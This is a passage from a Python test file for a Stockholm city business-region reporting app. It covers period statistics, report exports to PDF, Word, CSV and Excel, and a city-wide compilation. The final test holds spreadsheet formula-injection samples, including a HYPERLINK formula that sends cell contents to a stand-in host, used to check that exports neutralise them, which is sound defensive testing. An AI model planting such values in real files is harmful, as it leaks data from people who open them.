                                             (hog, sthlm(2026, 6, 24), "cancelled"),
                                             (hog, sthlm(2026, 12, 1), "planned"),
                                             (ars, sthlm(2026, 9, 9), "planned"),
                                             (city, sthlm(2026, 3, 12), "planned"))):
        series = MeetingSeries(group_id=groups[area.id].id, name=f"Serie {n}", dates=[], start_time=day.time(),
                               end_time=day.time(), place="Högdalen")
        s.add(series)
        s.flush()
        s.add(Meeting(series_id=series.id, occurrence=day.date().isoformat(), starts_at=day, ends_at=day,
                      place="Högdalen", status=status))
    project = DevelopmentProject(name="Ny infart", kind="road_works", created_at=now)
    s.add(project)
    s.flush()
    for name, area, informed in (("Högdalens Bil AB", hog, sthlm(2026, 5, 5)), ("City Kaffe AB", city, sthlm(2026, 2, 2))):
        company = Company(name=name, created_at=now, updated_at=now)
        s.add(company)
        s.flush()
        s.add(CompanyArea(company_id=company.id, business_area_id=area.id))
        s.add(OutreachEntry(project_id=project.id, company_id=company.id, informed_at=informed, how="visit"))
    s.commit()
    return c


def _hand_counted(c):
    """What a person counts from the data above, period by period."""
    notable = {"c1": "Skyltningen är åtgärdad.", "c9": "Bygglovet beviljades.",
               "c2": "Belysning uppsatt vid lastkajen.", "c5": "Trafikkontoret utreder en ny infart."}

    def decisions(*keys):
        return [(c[k].reference, notable[k]) for k in keys]

    return {
        "T1": {
            # received in T1: c11, c1 (focus 1), c2 and c3 (focus 3; c3 at 23:30 on 30 April), c10 (none);
            # c8 was merged, c9 came in 2025, c4 came 30 minutes into May.
            "received_by_focus_area": {"1": 2, "3": 2, "0": 1},
            "closed_by_focus_area": {"1": 1, "4": 1},                   # c1 in March, c9 in January
            "median_working_days_to_triage": 2.5,                       # c11: 3, c1: 2
            "median_working_days_to_decision": 20.5,                    # c1: 28, c9: 13
            "escalations_by_level": {"2": 1},                           # c3 at 23:50 on 30 April
            "overdue_action_items": 2,                                  # due 1 March and 30 April, open
            "companies_informed": 0,
            "meetings_held": 1,                                         # 10 March
            "notable_decisions": decisions("c1", "c9"),
        },
        "T2": {
            "received_by_focus_area": {"3": 1, "2": 1},                 # c4, c5
            "closed_by_focus_area": {"3": 1},                           # c2: received in April, closed in May
            "median_working_days_to_triage": 2,                         # c2: 3, c4: 1, c5: 2
            "median_working_days_to_decision": 34,                      # c2: 14, c5: 54
            "escalations_by_level": {"2": 1, "3": 1},                   # c5 twice
            "overdue_action_items": 3,                                  # + due 1 June, in progress
            "companies_informed": 1,
            "meetings_held": 1,                                         # 10 June; 24 June was cancelled
            "notable_decisions": decisions("c5", "c2"),
        },
        "VB": {
            "received_by_focus_area": {"1": 3, "3": 3, "2": 1, "0": 1},
            "closed_by_focus_area": {"1": 1, "3": 1, "4": 1},
            "median_working_days_to_triage": 2,                         # 3, 2, 3, 1, 2, 1
            "median_working_days_to_decision": 21,                      # 13, 14, 28, 54
            "escalations_by_level": {"2": 3, "3": 1},
            "overdue_action_items": 4,                                  # + due 1 October, blocked
            "companies_informed": 1,
            "meetings_held": 3,                                         # 1 December has not been held yet
            "notable_decisions": decisions("c5", "c2", "c1", "c9"),
        },
    }


def _comparable(facts):
    facts = dict(facts)
    facts["notable_decisions"] = [(d["reference"], d["decision"]) for d in facts["notable_decisions"]]
    return {k: facts[k] for k in ("received_by_focus_area", "closed_by_focus_area", "median_working_days_to_triage",
                                  "median_working_days_to_decision", "escalations_by_level", "overdue_action_items",
                                  "companies_informed", "meetings_held", "notable_decisions")}


@pytest.mark.parametrize("period", ["T1", "T2", "VB"])
def test_the_facts_for_the_committees_areas_and_period_are_what_a_person_counts(app, w, data, session, clock, period):
    facts = services.compute_facts(session, committee_id=w.eav.id, year=2026, period=period, now=clock.now(),
                                   working_days=WorkingDays())

    assert _comparable(facts) == _hand_counted(data)[period]
    assert sorted(facts["business_areas"]) == ["Högdalens industriområde", "Årsta Partihallar"]
    assert facts["period"] == f"2026 {period}"


def test_the_report_page_shows_the_facts_beside_each_focus_area(client, app, w, data):
    start(app, client, w.writer, w.eav, 2026, "T1")
    text = text_of(client.get(url(w.eav, 2026, "T1")))

    # Focus area 1: received c11 and c1, closed c1; focus area 3: received c2 and c3, none closed.
    assert re.search(r"1\. Stimulera tillväxt och företagsamhet Ur ärendena \(2026 T1\) "
                     r"Inkomna ärenden: 2 Avslutade ärenden: 1 ", text)
    assert re.search(r"2\. Förbättra service, tillgänglighet och myndighetsutövning "
                     r"Ur ärendena \(2026 T1\) Inkomna ärenden: 0 Avslutade ärenden: 0 ", text)
    assert re.search(r"3\. Attraktivare miljöer och bättre framkomlighet "
                     r"Ur ärendena \(2026 T1\) Inkomna ärenden: 2 Avslutade ärenden: 0 ", text)
    assert "Median arbetsdagar till triage 2.5" in text
    assert "Lyft per nivå nivå 2: 1" in text
    assert "Försenade åtgärder 2" in text
    assert "Hållna möten i arbetsgrupperna 1" in text
    assert f"{data['c1'].reference} {data['c1'].title}: Skyltningen är åtgärdad." in text
    assert "Norrmalms beslut." not in text


def test_the_facts_are_frozen_into_the_report_when_it_is_submitted(client, app, w, data, session, clock):
    report = start(app, client, w.writer, w.eav, 2026, "T1")
    qs = questions(app, w.eav)
    client.post(url(w.eav), data=form(app, report.id, qs, {qs[0].id: "Frukostmöten."}, name="Anna Andersson",
                                      phone="08-508 140 00", action="submit"))
    frozen = report_of(app, w.eav).facts
    assert _comparable(frozen) == _hand_counted(data)["T1"]

    # Later the data changes: a case of March is registered late, another one closed back-dated,
    # an action item done.
    late = _case(session, clock, w.hogdalen, 1, sthlm(2026, 3, 16), triaged=sthlm(2026, 3, 30))
    _event(session, data["c3"], "closed", sthlm(2026, 4, 15), reason="Avslutat i efterhand.")
    for item in session.exec(select(ActionItem).where(ActionItem.due_date == date(2026, 3, 1))):
        item.status = "done"
        session.add(item)
    session.commit()
    live = services.compute_facts(session, committee_id=w.eav.id, year=2026, period="T1", now=clock.now(),
                                  working_days=WorkingDays())
    assert live["received_by_focus_area"]["1"] == 3 and live["closed_by_focus_area"]["3"] == 1  # the data did change

    page = text_of(client.get(url(w.eav, 2026, "T1")))
    rows = list(csv.reader(io.StringIO(client.get(f"/rapporter/{report.id}/fakta.csv").get_data(as_text=True)
                                       .lstrip("\ufeff")), delimiter=";"))
    assert report_of(app, w.eav).facts == frozen
    assert "Fakta för perioden (låsta vid inlämning)" in page
    assert re.search(r"1\. Stimulera tillväxt och företagsamhet Ur ärendena \(2026 T1\) "
                     r"Inkomna ärenden: 2 Avslutade ärenden: 1 ", page)
    assert "Försenade åtgärder 2" in page
    assert ["received_by_focus_area", "1", "2"] in rows and ["overdue_action_items", "", "2"] in rows
    assert late.reference not in page
    # A report of the same committee not yet submitted shows the data as it is now.
    vb_live = text_of(sign_in(app.test_client(), w.colleague).get(url(w.eav, 2026, "VB")))
    assert re.search(r"1\. Stimulera tillväxt och företagsamhet Ur ärendena \(2026 VB\) "
                     r"Inkomna ärenden: 4 ", vb_live)


# --- PDF, Word, CSV -------------------------------------------------------------------------------------------

PLATSSAMVERKAN = (
    "Metoden för platssamverkan innefattar att samordna insatser från myndigheter, andra förvaltningar, "
    "näringsliv, verksamheter, boende och civilsamhället på den specifika platsen. ") * 30


def _answers(qs):
    answers = {q.id: f"Svar på fråga {n} från Enskede-Årsta-Vantör.\nAndra stycket, fråga {n}."
               for n, q in enumerate(qs, 1)}
    answers[qs[4].id] = PLATSSAMVERKAN.strip()  # longer than a page
    return answers


def pdf_pages(data: bytes) -> list[str]:
    assert data.startswith(b"%PDF")
    result = subprocess.run(["/usr/bin/pdftotext", "-enc", "UTF-8", "-", "-"], input=data, capture_output=True,
                            check=True)
    return [page for page in result.stdout.decode("utf-8").split("\f") if page.strip()]


def pdf_text(data: bytes) -> str:
    """The PDF's text with the running header and page numbers removed, whitespace collapsed."""
    lines = [line for line in "\n".join(pdf_pages(data)).splitlines()
             if not re.fullmatch(r"\s*(Stockholms stad · Stockholm Business Region|Sida \d+ av \d+|"
                                 r"Uppföljningsrapport näringsliv \d{4} (T1|T2|VB))\s*", line)]
    return squash(" ".join(lines))


def test_the_pdf_opens_and_has_every_question_and_answer(client, app, w, session):
    qs = questions(app, w.eav)
    answers = _answers(qs)
    report = make_report(session, w.eav, status="submitted", answers=answers)

    response = sign_in(client, w.coordinator).get(f"/rapporter/{report.id}.pdf")

    assert response.status_code == 200 and response.mimetype == "application/pdf"
    text = pdf_text(response.data)
    assert "Enskede-Årsta-Vantörs stadsdelsnämnd" in text
    assert "Kontaktperson för eventuella frågor Anna Andersson" in text
    assert "anna.andersson@stockholm.se" in text
    for n, (area, question) in enumerate(QUESTIONS_2022):
        assert squash(question) in text, question
    for question_id, answer in answers.items():
        assert squash(answer) in text, answer[:60]
    # In the form's order: each answer follows its question.
    positions = [text.index(squash(q.text) + " " + squash(answers[q.id])) for q in qs]
    assert positions == sorted(positions)
    assert len(pdf_pages(response.data)) >= 2  # the long answer goes on over a page break


def test_the_word_document_opens_and_has_the_same_text(client, app, w, session):
    qs = questions(app, w.eav)
    answers = _answers(qs)
    report = make_report(session, w.eav, status="submitted", answers=answers)

    response = sign_in(client, w.writer).get(f"/rapporter/{report.id}.docx")

    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    document = Document(io.BytesIO(response.data))
    paragraphs = [p.text for p in document.paragraphs]
    cells = [[cell.text for cell in row.cells] for table in document.tables for row in table.rows]
    assert ["Nämnd", "Enskede-Årsta-Vantörs stadsdelsnämnd"] in cells
    assert ["Kontaktperson för eventuella frågor", "Anna Andersson"] in cells
    assert ["E-post", "anna.andersson@stockholm.se"] in cells
    for n, title in FOCUS_AREAS.items():
        assert f"{n}. {title}" in paragraphs
    for q in qs:
        assert q.text in paragraphs
        at = paragraphs.index(q.text)
        lines = answers[q.id].split("\n")
        assert paragraphs[at + 1: at + 1 + len(lines)] == lines, q.text


def test_the_facts_csv_parses_and_has_the_submitted_facts(client, app, w, session):
    facts = {"period": "2026 T1", "from": "2026-01-01", "to": "2026-05-01",
             "business_areas": ["Högdalens industriområde", "Årsta Partihallar"],
             "received_by_focus_area": {"1": 2, "3": 2, "0": 1}, "closed_by_focus_area": {"1": 1},
             "median_working_days_to_triage": 2.5, "median_working_days_to_decision": None,
             "escalations_by_level": {"2": 1}, "overdue_action_items": 2, "companies_informed": 0,
             "meetings_held": 1,
             "notable_decisions": [{"reference": "SBR 2026/0001", "title": "Skyltar; \"Högdalen\"",
                                    "decision": "Skyltningen är åtgärdad.", "at": "2026-03-20T09:00:00+00:00"}]}
    report = make_report(session, w.eav, status="submitted", facts=facts)

    response = sign_in(client, w.writer).get(f"/rapporter/{report.id}/fakta.csv")

    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    assert rows[0] == ["uppgift", "nyckel", "värde"]
    assert all(len(row) == 3 for row in rows)
    assert ["received_by_focus_area", "1", "2"] in rows
    assert ["received_by_focus_area", "0", "1"] in rows
    assert ["median_working_days_to_triage", "", "2.5"] in rows
    assert ["escalations_by_level", "2", "1"] in rows
    assert ["overdue_action_items", "", "2"] in rows
    assert ["meetings_held", "", "1"] in rows
    assert ["business_areas", "", "Årsta Partihallar"] in rows
    decision = next(row for row in rows if row[0] == "notable_decisions")
    assert "Skyltningen är åtgärdad." in decision[2] and 'Skyltar; "Högdalen"' in decision[2]


def test_the_facts_as_excel_open_and_hold_the_same_rows_as_the_csv(client, app, w, session):
    from openpyxl import load_workbook

    facts = {"period": "2026 T2", "received_by_focus_area": {"3": 1, "2": 1}, "overdue_action_items": 3,
             "median_working_days_to_triage": 2, "business_areas": ["Högdalens industriområde"]}
    report = make_report(session, w.eav, period="T2", status="approved", facts=facts)
    reader = sign_in(client, w.steering)

    book = load_workbook(io.BytesIO(reader.get(f"/rapporter/{report.id}/fakta.xlsx").data))
    rows = [["" if v is None else str(v) for v in row] for row in book.active.iter_rows(values_only=True)]
    csv_rows = list(csv.reader(io.StringIO(reader.get(f"/rapporter/{report.id}/fakta.csv").get_data(as_text=True)
                                           .lstrip("\ufeff")), delimiter=";"))

    assert book.active.title == "2026 T2"
    assert rows == csv_rows
    assert ["received_by_focus_area", "3", "1"] in rows and ["overdue_action_items", "", "3"] in rows


# --- the city-wide compilation ---------------------------------------------------------------------------------

def _sections(response) -> dict[str, list[tuple[str, str]]]:
    """Question → [(committee, answer)] as the compilation shows them."""
    page = response.get_data(as_text=True)
    found = {}
    for heading, body in re.findall(r"<section[^>]*>\s*<h3>(.*?)</h3>(.*?)</section>", page, re.S):
        found[html_lib.unescape(heading)] = [
            (html_lib.unescape(name), html_lib.unescape(text).strip())
            for name, text in re.findall(r"<p><strong>(.*?):</strong></p><p class=\"prewrap\">(.*?)</p>", body, re.S)]
    return found


def test_the_compilation_lists_each_submitted_committees_answers_per_question(client, app, w, session):
    _add_limited_question(client, w)
    spare = factories.committee(session, name="Skarpnäcks stadsdelsnämnd", organisation_id=w.tk.id)
    session.commit()
    eav_qs, norrmalm_qs = questions(app, w.eav), questions(app, w.norrmalm)
    limited = next(q for q in eav_qs if q.text == LIMITED)
    make_report(session, w.eav, period="T2", status="submitted",
                answers={q.id: f"EÅV svarar på {q.text[:25]}" for q in eav_qs})
    make_report(session, w.norrmalm, period="T2", status="approved",
                answers={q.id: f"Norrmalm svarar på {q.text[:25]}" for q in norrmalm_qs[:3]})
    make_report(session, spare, period="T2", status="draft", answers={eav_qs[0].id: "Skarpnäcks utkast."})
    make_report(session, w.eav, period="T1", status="submitted", answers={eav_qs[0].id: "EÅV:s svar för T1."})

    response = sign_in(client, w.coordinator).get("/rapporter/sammanstallning/2026/T2")

    assert response.status_code == 200
    assert "2 nämnder har lämnat in." in text_of(response)
    sections = _sections(response)
    assert set(sections) == {q.text for q in eav_qs}
    for q in eav_qs:
        expected = [("Enskede-Årsta-Vantörs stadsdelsnämnd", f"EÅV svarar på {q.text[:25]}")]
        if q in norrmalm_qs[:3]:
            expected.append(("Norrmalms stadsdelsnämnd", f"Norrmalm svarar på {q.text[:25]}"))
        assert sections[q.text] == expected, q.text
    assert sections[limited.text] == [("Enskede-Årsta-Vantörs stadsdelsnämnd", f"EÅV svarar på {LIMITED[:25]}")]
    page = text_of(response)
    assert "Skarpnäcks utkast." not in page and "EÅV:s svar för T1." not in page
    # The city management office reads it too; the committees' officials do not.
    assert sign_in(app.test_client(), w.steering).get("/rapporter/sammanstallning/2026/T2").status_code == 200
    assert sign_in(app.test_client(), w.writer).get("/rapporter/sammanstallning/2026/T2").status_code == 403


def test_the_compilation_has_each_focus_area_once_with_all_its_questions(client, app, w, session):
    _add_limited_question(client, w)
    eav_qs = questions(app, w.eav)
    make_report(session, w.eav, period="T2", status="submitted", answers={q.id: "Svar." for q in eav_qs})

    response = sign_in(client, w.coordinator).get("/rapporter/sammanstallning/2026/T2")

    headings = [html_lib.unescape(h) for h in re.findall(r"<h2>(.*?)</h2>", response.get_data(as_text=True))]
    assert headings == [f"{n}. {title}" for n, title in FOCUS_AREAS.items()] + ["Övriga upplysningar"]
    assert list(_sections(response)) == [q.text for q in eav_qs]
    assert list(_sections(response))[-1] == "Övriga upplysningar"


def test_exported_facts_never_hold_a_formula_a_spreadsheet_would_run(client, app, w, session):
    """Names typed into the system (here business areas) that look like formulas are text in the
    CSV (after an apostrophe) and text cells in the Excel file; numbers stay numbers."""
    from openpyxl import load_workbook

    hostile = ['=HYPERLINK("http://example.invalid/?x="&A1;"klicka")', "+1+1", "-2+3", "@SUM(A1:A9)",
               "\t=1+1", "Årsta Partihallar"]
    facts = {"period": "2026 T2", "business_areas": hostile, "overdue_action_items": 3,
             "median_working_days_to_triage": -1.5}
    report = make_report(session, w.eav, period="T2", status="approved", facts=facts)
    reader = sign_in(client, w.steering)

    csv_rows = list(csv.reader(io.StringIO(reader.get(f"/rapporter/{report.id}/fakta.csv").get_data(as_text=True)
                                           .lstrip("\ufeff")), delimiter=";"))
    book = load_workbook(io.BytesIO(reader.get(f"/rapporter/{report.id}/fakta.xlsx").data))

    areas = [row[2] for row in csv_rows if row[0] == "business_areas"]
    assert areas == ["'" + name for name in hostile[:-1]] + ["Årsta Partihallar"]
    assert ["median_working_days_to_triage", "", "-1.5"] in csv_rows and ["overdue_action_items", "", "3"] in csv_rows
    cells = {(row[0].value, row[2].value): row[2] for row in book.active.iter_rows()}
    for name in hostile:
        cell = cells[("business_areas", name)]
        assert cell.data_type == "s", (name, cell.data_type)  # a text cell, shown as typed, never run
    assert cells[("overdue_action_items", 3)].data_type == "n"
    assert cells[("median_working_days_to_triage", -1.5)].data_type == "n"
